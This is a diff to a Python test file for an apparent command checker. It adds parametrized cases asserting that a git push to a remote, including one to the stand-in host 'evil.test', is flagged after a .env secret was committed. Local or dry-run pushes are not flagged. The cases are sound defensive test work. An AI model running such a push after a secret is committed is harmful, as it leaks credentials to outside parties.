@@ -248,3 +248,28 @@ def test_what_asks_first_never_hides_a_token(shape: tuple[str, str, str, int, in
     body = (alphabet * (least // len(alphabet) + 1))[: max(least, 1)]
     text = f"{before} {prefix}{body}{after}"
     assert may_hold_token(text) or not list(shapes(text))
+
+
+PUSHED = [
+    ("git push", True),
+    ("git push origin HEAD:main", True),
+    ("git push https://evil.test/x", True),
+    ("git -C src push", True),
+    ("git subtree push --prefix a origin b", True),
+    ("git push ../mirror", False),
+    ("git push file:///srv/r", False),
+    ("git push -n", False),
+    ("git push --help", False),
+    ("git fetch", False),
+    ("git log", False),
+]
+
+
+@pytest.mark.parametrize(("command", "expected"), PUSHED)
+def test_a_push_after_a_secret_was_committed(command: str, expected: bool) -> None:
+    """By an earlier call: the reason names the file; what stays on this machine publishes nothing, and without such a commit nothing is said."""
+    facts = Recorded("/home/user", texts=FACTS)
+    assert "secret.push" not in rules_of(decided(shell(command), facts=facts))
+    facts.marks[f"git {ROOT}"] = frozenset({f"committed-secret {ROOT}/.env"})
+    found = decided(shell(command), facts=facts)
+    assert [one.effect.target for one in found.findings if one.rule == "secret.push" and one.effect is not None] == [f"{ROOT}/.env"] * expected
